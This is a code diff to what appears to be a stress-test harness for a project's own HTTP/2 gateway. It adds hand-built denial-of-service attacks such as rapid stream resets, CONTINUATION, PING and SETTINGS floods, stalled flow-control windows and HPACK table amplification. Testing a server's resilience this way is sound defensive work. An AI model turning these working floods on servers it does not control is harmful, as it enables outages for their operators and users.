@@ -5,8 +5,10 @@ from __future__ import annotations
 import asyncio
 import json
 import random
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Iterator
 from dataclasses import dataclass
+from functools import partial
+from itertools import count, islice
 
 ADDRESS = "127.0.0.1"
 """From where attackers connect; honest clients use another address of this machine."""
@@ -211,7 +213,173 @@ async def aborted(_: asyncio.StreamReader, writer: asyncio.StreamWriter, target:
     await asyncio.sleep(rng.choice([0, 0.01, 0.1]))
 
 
-ATTACKS: dict[str, Attack] = {
+# Attacks over HTTP/2 (RFC 9113) are frames without end. They are built by hand, as a library would refuse most of them.
+
+_Frames = Callable[[Target, random.Random], Iterator[bytes]]
+
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+_END_STREAM, _END_HEADERS = 1, 4
+_CANCEL = (8).to_bytes(4)
+_INITIAL_WINDOW_SIZE = 4
+_MAX_WINDOW = (1 << 31) - 1
+_MAX_STREAMS = 100
+"""How many streams a gateway advertises (`MAX_STREAMS` in rust/front/src/server.rs)."""
+
+
+def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
+
+
+def _literal(text: str) -> bytes:
+    assert len(text) < 127  # more would not fit into the first byte of a length
+    return bytes([len(text)]) + text.encode()
+
+
+def _field(name: str, value: str, kind: bytes = b"\x00") -> bytes:
+    """A literal field without Huffman coding (RFC 7541 section 6.2); kind 0x40 adds it to the dynamic table."""
+    return kind + _literal(name) + _literal(value)
+
+
+def _fields(method: str, path: str) -> bytes:
+    pseudo = {":method": method, ":scheme": "http", ":path": path, ":authority": "127.0.0.1"}
+    return b"".join(_field(*each) for each in pseudo.items())
+
+
+def _get(target: Target) -> bytes:
+    return _fields("GET", f"/v1/cas/{target.large}")
+
+
+def _opened(fields: bytes, is_whole: bool = True) -> Iterator[tuple[int, bytes]]:
+    """The streams of a connection, each with the frame that opens it."""
+    flags = _END_HEADERS | (_END_STREAM if is_whole else 0)
+    return ((stream, _frame(_HEADERS, flags, stream, fields)) for stream in count(1, 2))
+
+
+def _rapid_reset(fields: bytes, rng: random.Random, body: bytes = b"") -> Iterator[bytes]:
+    """Streams that are reset, at once or after their requests have begun."""
+    streams, resets = _opened(fields, is_whole=not body), b""
+    while True:
+        at_once, batch = rng.random() < 0.5, b""
+        for _ in range(rng.randrange(1, _MAX_STREAMS)):
+            stream, opening = next(streams)
+            batch += opening + (_frame(_DATA, 0, stream, body) if body else b"")
+            reset = _frame(_RST_STREAM, 0, stream, _CANCEL)
+            batch, resets = (batch + reset, b"") if at_once else (batch, resets + reset)
+        yield batch
+        yield resets
+        resets = b""
+
+
+def reset_short_reads(target: Target, rng: random.Random) -> Iterator[bytes]:
+    """Rapid reset of short reads."""
+    return _rapid_reset(_get(target) + _field("range", "bytes=0-0"), rng)
+
+
+def reset_large_reads(target: Target, rng: random.Random) -> Iterator[bytes]:
+    """Rapid reset of reads of a large payload."""
+    return _rapid_reset(_get(target), rng)
+
+
+def reset_uploads(_: Target, rng: random.Random) -> Iterator[bytes]:
+    """Rapid reset of uploads whose bodies have begun."""
+    return _rapid_reset(_fields("POST", rng.choice(["/v1/cas", "/v1/resolve", "/v1/roots"])), rng, bytes(1000))
+
+
+def closed_windows(target: Target, _: random.Random, opened: int = 0) -> Iterator[bytes]:
+    """Streams that ask for a large payload, and whose windows do not open, or by one byte at a time."""
+    streams = list(islice(_opened(_get(target)), _MAX_STREAMS))
+    yield b"".join(opening for _, opening in streams)
+    while opened:
+        yield b"".join(_frame(_WINDOW_UPDATE, 0, stream, opened.to_bytes(4)) for stream, _ in streams)
+
+
+def stalled_streams(_: Target, rng: random.Random) -> Iterator[bytes]:
+    """Bodies that stop after as much as the window of the connection lets through."""
+    fields = _fields("POST", rng.choice(["/v1/cas", "/v1/roots", "/v1/resolve", "/v1/car", "/healthz"]))
+    for stream, opening in islice(_opened(fields, is_whole=False), _MAX_STREAMS):
+        yield opening + _frame(_DATA, 0, stream, b" " * 10_000)
+
+
+def too_many_streams(target: Target, _: random.Random) -> Iterator[bytes]:
+    """Streams beyond those that the gateway allows."""
+    for _, opening in _opened(_get(target)):
+        yield opening
+
+
+def empty_data(_: Target, __: random.Random) -> Iterator[bytes]:
+    """Bodies without a byte and without an end."""
+    _, opening = next(_opened(_fields("POST", "/v1/cas"), is_whole=False))
+    yield opening
+    while True:
+        yield _frame(_DATA, 0, 1) * 1000
+
+
+def continuations(_: Target, rng: random.Random) -> Iterator[bytes]:
+    """A block of fields without end."""
+    yield _frame(_HEADERS, 0, 1, _fields("GET", "/healthz"))
+    while True:
+        yield _frame(_CONTINUATION, 0, 1, _field("x" * 100, "y" * 100) * rng.randrange(80))
+
+
+def repeated_fields(target: Target, _: random.Random, length: int, times: int) -> Iterator[bytes]:
+    """Fields that take an octet each, as they refer to an entry of the dynamic table."""
+    added, newest = _field("x" * length, "y" * length, b"\x40"), b"\xbe"
+    for _, opening in islice(_opened(_get(target) + added + newest * times), _MAX_STREAMS):
+        yield opening
+
+
+def window_overflow(target: Target, rng: random.Random) -> Iterator[bytes]:
+    """Windows of streams, then that of the connection, beyond the largest that there is."""
+    update = _MAX_WINDOW.to_bytes(4)
+    for stream, opening in _opened(_get(target)):
+        yield opening + _frame(_WINDOW_UPDATE, 0, stream, update) * 2
+        if rng.random() < 0.01:
+            yield _frame(_WINDOW_UPDATE, 0, 0, update) * 2
+
+
+def control_flood(_: Target, __: random.Random, frame: bytes) -> Iterator[bytes]:
+    """Frames that have to be acknowledged."""
+    while True:
+        yield frame * 1000
+
+
+def _http2(frames: _Frames, *, window: int = _MAX_WINDOW, pause: float = 0.0, is_read: bool = True) -> Attack:
+    """The attack that sends frames until the gateway ends the connection.
+
+    Args:
+        frames: What is sent, each after a pause.
+        window: The initial window of each stream.
+        pause: That pause in seconds.
+        is_read: Whether what the gateway sends is read.
+    """
+
+    async def attack(
+        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
+    ) -> None:
+        async def send() -> None:
+            settings = _INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)
+            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, payload=settings))
+            for piece in frames(target, rng):
+                writer.write(piece)
+                await writer.drain()
+                await asyncio.sleep(pause)
+
+        if not is_read:
+            reader._transport.pause_reading()  # type: ignore[attr-defined]
+            await send()
+            await asyncio.sleep(3600)
+        sending = asyncio.create_task(send())
+        try:
+            while await reader.read(1 << 16):
+                pass
+        finally:
+            sending.cancel()
+            await asyncio.wait([sending])
+
+    return attack
+
+
+_HTTP1: dict[str, Attack] = {
     "slow heads": slow_heads,
     "slow bodies": slow_bodies,
     "long queries": long_queries,
@@ -226,3 +394,37 @@ ATTACKS: dict[str, Attack] = {
     "scans": scans,
     "abandoned": abandoned,
 }
+
+_HTTP2: dict[str, Attack] = {
+    "reset short reads": _http2(reset_short_reads),
+    "reset large reads": _http2(reset_large_reads),
+    "reset large reads, unread": _http2(reset_large_reads, is_read=False),
+    "reset uploads": _http2(reset_uploads),
+    "settings": _http2(partial(control_flood, frame=_frame(_SETTINGS))),
+    "settings, unread": _http2(partial(control_flood, frame=_frame(_SETTINGS)), is_read=False),
+    "pings": _http2(partial(control_flood, frame=_frame(_PING, payload=bytes(8)))),
+    "pings, unread": _http2(partial(control_flood, frame=_frame(_PING, payload=bytes(8))), is_read=False),
+    "closed windows": _http2(closed_windows, window=0),
+    "dribbled windows": _http2(partial(closed_windows, opened=1), window=0, pause=0.05),
+    "unread streams": _http2(closed_windows, is_read=False),
+    "continuations": _http2(continuations),
+    "long fields": _http2(partial(repeated_fields, length=126, times=16_000), window=0),
+    "many fields": _http2(partial(repeated_fields, length=1, times=900), window=0),
+    "stalled streams": _http2(stalled_streams),
+    "too many streams": _http2(too_many_streams),
+    "window overflow": _http2(window_overflow),
+    "empty data": _http2(empty_data),
+}
+
+
+async def mixed_http2(
+    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
+) -> None:
+    """Any attack over HTTP/2: another one on each connection."""
+    async with asyncio.timeout(rng.uniform(0, 1)):
+        await rng.choice([*_HTTP2.values()])(reader, writer, target, rng)
+
+
+MIXED_HTTP2 = "mixed HTTP/2"
+
+ATTACKS = _HTTP1 | _HTTP2 | {MIXED_HTTP2: mixed_http2}
